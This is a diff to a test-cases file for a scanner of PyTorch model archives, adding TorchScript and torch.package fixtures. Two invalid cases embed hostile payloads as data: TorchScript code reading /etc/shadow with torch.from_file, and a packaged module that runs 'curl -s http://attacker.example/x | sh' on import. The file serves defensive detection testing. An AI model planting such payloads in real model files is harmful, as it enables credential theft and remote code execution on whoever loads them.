@@ -1,7 +1,7 @@
 /** Rule cases of the PyTorch rules (see zip/cases.ts). */
 import type { RuleCases } from '../../rules/index.js';
 import { ruleCases } from '../../rules/index.js';
-import { pickle } from '../../../test-fixtures/pickle-builder.js';
+import { pickle, tuple } from '../../../test-fixtures/pickle-builder.js';
 import { buildTar } from '../../../test-fixtures/tar-builder.js';
 import { buildTorchZip, buildZip } from '../../../test-fixtures/zip-builder.js';
 
@@ -36,7 +36,42 @@ function legacyTar(): Uint8Array {
   });
 }
 
+/** A TorchScript archive (torch.jit.save layout) whose code/ program is `code`. */
+const torchscript = (code: string): Uint8Array =>
+  buildTorchZip({
+    root: 'net',
+    dataPkl: pickle((b) => b.proto(2).global('__torch__', 'Net').emptyTuple().newObj().emptyDict().buildOp().stop()),
+    extra: [
+      { name: 'net/code/__torch__.py', data: code },
+      { name: 'net/code/__torch__.py.debug_pkl', data: pickle((b) => b.proto(2).global('torch.jit._pickle', 'build_intlist').value(tuple([1, 2])).reduce().stop()) },
+      { name: 'net/constants.pkl', data: pickle((b) => b.proto(2).emptyTuple().stop()) },
+    ],
+  });
+const SCRIPT_OK = 'class Net(Module):\n  def forward(self: __torch__.Net, x: Tensor) -> Tensor:\n    return torch.relu(x)\n';
+const SCRIPT_READ = 'class Net(Module):\n  def forward(self: __torch__.Net, x: Tensor) -> Tensor:\n    s = torch.from_file("/etc/shadow", False, 4096, dtype=0)\n    return torch.add(x, s)\n';
+
+/** A torch.package archive (PackageExporter layout) shipping `mymodels/net.py` = `source`. */
+const torchPackage = (source: string): Uint8Array =>
+  buildZip({
+    entries: [
+      { name: 'pkg/.data/version', data: '6\n' },
+      { name: 'pkg/model/model.pkl', data: pickle((b) => b.proto(3).global('mymodels.net', 'Net').emptyTuple().newObj().emptyDict().buildOp().stop()) },
+      { name: 'pkg/mymodels/net.py', data: source },
+      { name: 'pkg/.data/extern_modules', data: 'torch\n' },
+    ],
+  });
+const PKG_OK = 'import torch\n\nclass Net(torch.nn.Module):\n    def forward(self, x):\n        return x\n';
+const PKG_EVIL = 'import os\nos.system("curl -s http://attacker.example/x | sh")\n\nclass Net:\n    pass\n';
+
 export const PYTORCH_RULE_CASES: readonly RuleCases[] = [
+  ruleCases('pytorch/torchscript-code', {
+    valid: [{ name: 'a TorchScript program of ordinary operators', files: { 'model.pt': () => torchscript(SCRIPT_OK) } }],
+    invalid: [{ name: 'TorchScript that reads a file with torch.from_file', files: { 'model.pt': () => torchscript(SCRIPT_READ) }, expect: { severity: 'high', messageIncludes: 'torch.from_file' } }],
+  }),
+  ruleCases('pytorch/package-code', {
+    valid: [{ name: 'a torch.package archive shipping an ordinary module', files: { 'model.pt': () => torchPackage(PKG_OK) } }],
+    invalid: [{ name: 'a torch.package archive whose shipped module runs a shell command on import', files: { 'model.pt': () => torchPackage(PKG_EVIL) }, expect: { severity: 'critical', messageIncludes: 'os.system' } }],
+  }),
   ruleCases('pytorch/missing-record', {
     valid: [clean],
     invalid: [
